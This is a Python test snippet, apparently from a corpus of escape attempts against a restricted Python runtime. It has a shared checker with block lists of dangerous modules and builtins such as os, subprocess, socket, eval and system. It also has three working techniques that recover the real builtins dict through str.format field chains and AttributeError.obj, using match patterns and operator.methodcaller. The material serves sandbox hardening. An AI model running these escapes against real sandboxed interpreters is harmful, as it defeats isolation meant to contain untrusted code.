# technique: the runtime allows str.format only as LOAD_ATTR/LOAD_METHOD right after a constant string (whose fields it checks), but a bound format method of a string built at run time is also reached without a 'format' attribute load: a class pattern keyword (case str(format=fmt)), operator.methodcaller('format', ...) (its guard checks the name like any attribute: 'format' passes) and a str subclass whose __match_args__ is ('format',); with '{0.__globals__[__builtins__].x}' str.format reads json.dumps.__globals__ and fails on the builtins dict, and AttributeError.obj (read here as a class-pattern keyword, which the runtime does not refuse) hands the dict back
# source: 142 (str.format field chains + AttributeError.obj) reached past a rule that matches only one bytecode form of the method lookup
# note: the validator refuses the 'obj' attribute (in class patterns and attrgetter too); the runtime layer alone does not
# ---- escape check: the same block in every snippet of the corpus ----------
# It reads no refused attribute and holds no dunder string constant itself,
# so that a refusal is always the technique's, never the checker's.
def dn(s):
    return '_' * 2 + s + '_' * 2


DANGER = frozenset((
    'os', 'posix', 'nt', 'sys', 'subprocess', '_posixsubprocess', 'builtins',
    'ctypes', '_ctypes', 'socket', '_socket', 'importlib', '_imp',
    '_frozen_importlib', '_frozen_importlib_external', 'gc', 'inspect', 'types',
    'io', '_io', 'codecs', '_codecs', 'warnings', '_warnings', 'copyreg',
    'posixpath', 'genericpath', 'marshal', 'pickle', '_pickle', 'runpy',
    'linecache', 'traceback', 'threading', '_thread', 'locale', 'shutil',
    'signal', '_signal', 'pty', 'platform', 'tokenize', 'zipimport', 'pkgutil',
    'site', 'sysconfig', 'tempfile', 'pathlib', 'select', 'mmap', 'fcntl',
    'resource', 'weakref', '_weakref', 'atexit', 'faulthandler', 'encodings',
    'asyncio', 'argparse', 'gettext', 'pdb', 'pydoc', 'code', 'codeop', 'dis',
    'json.tool', '__main__',
))
REAL = frozenset(('eval', 'exec', 'compile', 'open', 'getattr', 'setattr', 'delattr',
                  'globals', 'locals', 'vars', 'breakpoint', '_getframe', 'system',
                  'popen', 'fork', 'execv', 'get_referrers', dn('import')))


def what(o, depth=0):
    """What forbidden thing o is, or None."""
    try:
        t = type(o).__name__
        if t in ('frame', 'code'):
            return t + ' object'
        if t == 'module':
            n = o.__name__
            if n in DANGER or n.split('.')[0] in DANGER:
                return 'module ' + n
            return None
        if t == 'dict':
            if dn('import') in o and 'eval' in o and 'open' in o:
                try:
                    works = o['eval']('1+1') == 2
                except BaseException:
                    works = False
                return 'real builtins dict' + (' (eval works)' if works else '')
            if dn('builtins') in o:
                n = o['__name__'] if '__name__' in o else '?'
                inner = what(o[dn('builtins')], depth + 1) if depth < 3 else None
                return 'globals of ' + str(n) + (' -> ' + inner if inner else '')
            return None
        if t == 'builtin_function_or_method' and o.__name__ in REAL:
            n = o.__name__
            if n == 'eval':
                return 'real eval' + (' (works)' if o('1+1') == 2 else '')
            return 'real builtin ' + n
        if t in ('_Helper', 'Quitter', '_Printer'):
            return 'site builtin ' + t
    except BaseException:
        return None
    return None


def check(label, o):
    w = what(o)
    if w:
        print('ESCAPED', label + ':', w)
        return True
    print('BLOCKED', label + ': reached only a', type(o).__name__)
    return False


def attempt(label, fn):
    try:
        return check(label, fn())
    except BaseException as e:
        print('BLOCKED', label + ':', type(e).__name__, str(e)[:160])
        return False
# ---- end of the escape check ----------------------------------------------

import json, operator

FIELD = '{0.' + dn('globals') + '[' + dn('builtins') + '].x}'


def dict_of(call):
    try:
        call()
    except AttributeError as e:
        match e:
            case AttributeError(obj=found):
                return found
    raise LookupError('no AttributeError')


def via_class_pattern():
    match FIELD:
        case str(format=fmt):
            return dict_of(lambda: fmt(json.dumps))


def via_methodcaller():
    return dict_of(lambda: operator.methodcaller('format', json.dumps)(FIELD))


class Fmt(str):
    __match_args__ = ('format',)


def via_match_args():
    match Fmt(FIELD):
        case Fmt(fmt):
            return dict_of(lambda: fmt(json.dumps))

attempt('case str(format=fmt) on a run-time format string', via_class_pattern)
attempt("operator.methodcaller('format', json.dumps)", via_methodcaller)
attempt("__match_args__ = ('format',) on a str subclass", via_match_args)
